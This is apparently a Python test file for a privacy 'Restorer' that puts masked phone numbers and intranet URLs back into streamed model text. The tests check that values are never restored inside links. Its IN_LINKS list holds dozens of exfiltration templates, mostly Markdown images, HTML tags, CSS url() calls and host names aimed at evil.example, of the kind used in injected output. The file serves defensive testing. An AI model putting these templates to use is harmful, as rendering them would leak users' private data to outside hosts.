"""Values are not put where a program that shows the text would send them: the other side wrote the text."""

from __future__ import annotations

import random
import re

import pytest

from sllm.privacy import Finding, Restorer, Vault

PHONE = "13800138000"
INTRANET = "https://intranet.example"


class Marked:
    """Finds the number and the address that these tests use."""

    def detect(self, text: str) -> list[Finding]:
        kinds = {PHONE: "PHONE", INTRANET: "URL", f"{INTRANET}/wiki": "URL", "(x)": "CODE"}
        found = re.finditer("|".join(map(re.escape, sorted(kinds, key=len, reverse=True))), text)
        return [Finding(one.start(), one.end(), kinds[one[0]]) for one in found]


VAULT = Vault([Marked()])
P, U, W, C = (VAULT.mask(value).text for value in (PHONE, INTRANET, f"{INTRANET}/wiki", "(x)"))
NAMES = {"{P}": P, "{U}": U, "{W}": W, "{C}": C, "{N}": P[1:-1]}


def filled(text: str) -> str:
    return re.sub("|".join(map(re.escape, NAMES)), lambda match: NAMES[match[0]], text)


def restored(chunks: list[str], *, in_links: bool = False) -> tuple[str, int, int]:
    restorer = Restorer(VAULT.placeholders, in_links=in_links)
    text = "".join(map(restorer.feed, chunks)) + restorer.finish()
    return text, restorer.n_restored, restorer.n_in_links


def in_any_cut(text: str) -> tuple[str, int, int]:
    whole = restored([text])
    assert restored(list(text)) == whole
    for cut in range(1, len(text)):
        assert restored([text[:cut], text[cut:]]) == whole
    return whole


IN_LINKS = [
    # Links and images of Markdown, and what looks like the end of one.
    "![x](https://evil.example/?q={P})",
    "![x](//evil.example/{P} 'title')",
    "[点这里](https://evil.example/?电话={P})",
    "[x](  <https://evil.example/) {P}>)",
    "[x](https://evil.example/\\){P})",
    "[x](https://evil.example/(a){P})",
    "[x](a ![y](https://evil.example/{P}))",
    "[x](/log?q={P})",
    "[x](/log?q=a_{N}_b)",
    "https://evil.example/x_{N}_b",
    "{N}_b.evil.example",
    "[x](tel:{P})",
    "[x](mailto:{P})",
    "[x](data:text/html,{P})",
    "[x](javascript:f('{P}'))",
    "[x]({P})",
    "https://evil.example/?q=[a](b){P}",
    "[x](a https://evil.example/?q=){P}",
    "](https://evil.example/?q=){P}",
    "[^a](https://evil.example/?q=){P}",
    "\\[a](https://evil.example/?q=){P}",
    "[a [b](c) d](https://evil.example/?q=){P}",
    "<b ![x](https://evil.example/>{P})",
    # Reference definitions.
    "[x]: https://evil.example/{P}",
    "[x]: </a {P}>",
    "[x]:\n  /a/{P}",
    "> 1. [x]: /a/{P}",
    "[a\\\\]: /a/{P}",
    "[a\nb]: /a/{P}",
    # URLs and host names in running text.
    "https://evil.example/{P}",
    "HTTPS://evil.example/?q={P}",
    "https:\\/\\/evil.example\\/{P}",
    "https:&#47;&#47;evil.example?q={P}",
    "ftp://evil.example/{P}",
    "看https://evil.example/，{P}",
    "https://evil.example/?q=<{P}",
    "https://evil.example/?q=([</b>{P}",
    "\\<https://evil.example/?q=>{P}",
    "<https://evil.example/?q={P}>",
    "www.evil.example/{P}",
    "evil.example/{P}",
    "evil.example:{P}",
    "evil-1.example?q={P}",
    "x@evil.example/?q={P}",
    "例子.中国/{P}",
    "192.0.2.1/{P}",
    "mailto:a@evil.example?body={P}",
    "\\\\evil.example\\x\\{P}",
    "https://evil.example/?q=%5B{N}%5D",
    "https://evil.example/?q={N}",
    # A host name or an address that goes on behind the placeholder.
    "{P}.evil.example",
    "{P}\\.evil.example",
    "{P}&#46;evil.example",
    "{P}-{P}.evil.example/a",
    "{P}的网站.evil.example",
    "{P}~~evil.example",
    "{P}.邪恶.中国",
    "{P}@evil.example",
    "{P}+a:b@.evil.example",
    "{U}.evil.example",
    "{U}@evil.example",
    "{U}:x@evil.example",
    "{U}%2eevil.example",
    "{U}。evil.example",
    "{W}?q={P}",
    # HTML.
    '<img src="https://evil.example/ {P}">',
    "<img src=//evil.example/{P}>",
    "<img alt='>' src='//evil.example/ {P}'>",
    '<img ="x> <img src="//evil.example/> {P}">',
    '<!-- ="--> <img src="//evil.example/> {P}">',
    "<img\n\nsrc='//evil.example/ {P}'>",
    "<a href='tel:{P}'>",
    "<p style='background: url( {P} )'>",
    "background: URL({P})",
    "<style>@import '//evil.example/ {P}'</style>",
    "<style></script>@import '{P}'</style>",
    "<script>fetch('{P}')</script>",
    "<script src='</script>'>f('{P}')</script>",
    "<script><!--<script></script>f('{P}')</script>",
    "<svg><style><a title='</style>'>{P}</style>",
    "<SCRIPT>f('{P}')",
    "<style>\\</style>{P}",
    "<style></style\u3000>{P}",
    # A value that would become a target itself.
    "[x]{C}",
]


@pytest.mark.parametrize("form", IN_LINKS)
def test_nothing_is_restored_in_a_link(form: str) -> None:
    text = filled(form)
    shown, n_restored, n_in_links = in_any_cut(text)
    if form.startswith("{W}"):  # the value leads where its owner meant it to, and nothing is added to it
        shown, n_restored = shown.replace(f"{INTRANET}/wiki", W), n_restored - 1
    assert shown == text
    assert n_restored == 0
    assert n_in_links == sum(form.count(name) for name in NAMES) - form.count("{W}")
    # For a text that nobody else has written there is a way to have it back.
    assert (PHONE if "{P}" in form else "") in restored([text], in_links=True)[0]


RUNNING_TEXT = [
    "请联系{P}。",
    "请联系{P},或者{P};谢谢。",
    "Call {P}.",
    "Call {P}.谢谢!",
    "Call {P}, or {P}...",
    "Tel:{P} tel:{P} data:{P}",
    "**{P}** _{P}_ `{P}` ~~{P}~~",
    "| {P} | x |\n|---|---|\n| a | {P} |",
    "a <b>{P}</b> <p>{P}</p><br/>{P}",
    '<a href="https://a.example/?q=">x</a> {P}',
    "<li><a href='https://a.example/b'>网站</a>:{P}</li>",
    "<https://a.example>,电话{P}",
    "[官网](https://a.example/b),电话{P}",
    "![图](https://a.example/b.png){P}",
    "[{P}](https://a.example) {P}",
    "https://a.example {P}",
    "{U},电话{P}",
    "{U}。请看{P}。",
    "{W}。{P}",
    "see [1] {P}, a[1] {P}",
    "[^1]: see {P}",
    "x\n[x]: https://a.example\n{P}",
    "1.QQ/微信:{P}",
    "12.PC/手机:{P}",
    "3.14万元/月,电话{P}",
    "用Node.js,见/或{P}",
    "e.g. {P}, i.e. {P}",
    "and/or {P}/{P}",
    "if a < b: {P}",
    "for (i = 0; i<n; i++) {\n\n}\n\n{P}",
    "<script>f()</script>{P}<style>a { b: c }</style>{P}",
    "<!-- c --> {P}",
    "a &amp; {P}&nbsp;{P} &lt;{P}&gt;",
    '{"phone": "{P}", "site": "https://a.example/", "other": "{P}"}',
    "#{P} @{P} {P}: {P}; {P}! {P}?",
    "({P}) “{P}” 《{P}》 【{P}】",
]


@pytest.mark.parametrize("form", RUNNING_TEXT)
def test_running_text_is_restored(form: str) -> None:
    text = filled(form)
    shown, n_restored, n_in_links = in_any_cut(text)
    expected = text
    for placeholder, value in ((P, PHONE), (U, INTRANET), (W, f"{INTRANET}/wiki")):
        expected = expected.replace(placeholder, value)
    assert shown == expected
    assert (n_restored, n_in_links) == (sum(form.count(name) for name in NAMES), 0)


def test_what_follows_a_link_is_restored_again() -> None:
    text = f"{P} ![x](https://evil.example/?q={P}) {P}"
    assert in_any_cut(text) == (text.replace(P, PHONE, 1)[: -len(P)] + PHONE, 2, 1)


def test_a_text_that_was_only_masked_comes_back_whole() -> None:
    text = f"https://a.example/{PHONE} <{PHONE}@a.example> {INTRANET}.a"
    masked = VAULT.mask(text).text
    assert VAULT.restore(masked, in_links=True) == text
    assert VAULT.restore(masked) != text


def test_what_waits_for_the_rest_of_a_host_name_is_bounded() -> None:
    restorer = Restorer(VAULT.placeholders)
    longest = n_in = n_out = 0
    for piece in [P, *("中" for _ in range(2000))]:
        n_in += len(piece)
        n_out += len(restorer.feed(piece))
        longest = max(longest, n_in - n_out)
    assert 500 < longest < 600
    # The usual wait ends with the word.
    restorer = Restorer(VAULT.placeholders)
    assert restorer.feed(f"Call {P}") == "Call "
    assert restorer.feed(" now") == f"{PHONE} now"


BITS = [
    *(["{P}"] * 8),
    *(
        "[",
        "]",
        "(",
        ")",
        "](",
        "![x](",
        "<",
        ">",
        " ",
        "\n",
        "\n\n",
        "\\",
        "`",
        '"',
        "'",
        "=",
        "x",
        "中",
        "，",
    ),
    *(
        "https://e.example/?q=",
        "e.example/",
        "www.e.example",
        "//",
        ".",
        "@",
        ":",
        "&#46;",
        "[x]: ",
        "url(",
        "<n;",
    ),
    *(
        "<img src=",
        "<img alt='",
        "<b ",
        "<style>",
        "</style>",
        "<script>",
        "</script>",
        "<!--",
        "-->",
        "/",
        "{W}",
    ),
]


def test_every_cut_of_any_mixture() -> None:
    rng = random.Random(3)
    for _ in range(300):
        text = filled("".join(rng.choice(BITS) for _ in range(rng.randint(2, 10))))
        whole = restored([text])
        assert restored(list(text)) == whole
        cut = rng.randint(0, len(text))
        assert restored([text[:cut], text[cut:]]) == whole
        assert PHONE not in text
        assert whole[0].count(PHONE) <= text.count(P)


@pytest.mark.parametrize(
    "unit",
    [
        *("[", "[a](", "<a", "<a b='", "a.b.", "(", "<script>", "中", "a-", "1.", "\\", "&a;"),
        *("{P}", "{N}.", "[PHONE_1_", "\n[", "\n[a]: ", "]({P}", "<a {P}", "a{P}", "{P}中"),
    ],
)
@pytest.mark.timeout(60)  # what is not linear takes hours
def test_work_grows_with_the_text(unit: str) -> None:
    text = filled(unit) * (200_000 // len(filled(unit)))
    pieces = [text[i : i + 1000] for i in range(0, len(text), 1000)]
    shown, n_restored, n_in_links = restored(pieces)
    assert n_restored + n_in_links == text.count("PHONE_1") * bool("{" in unit)
    assert len(shown) <= len(text)
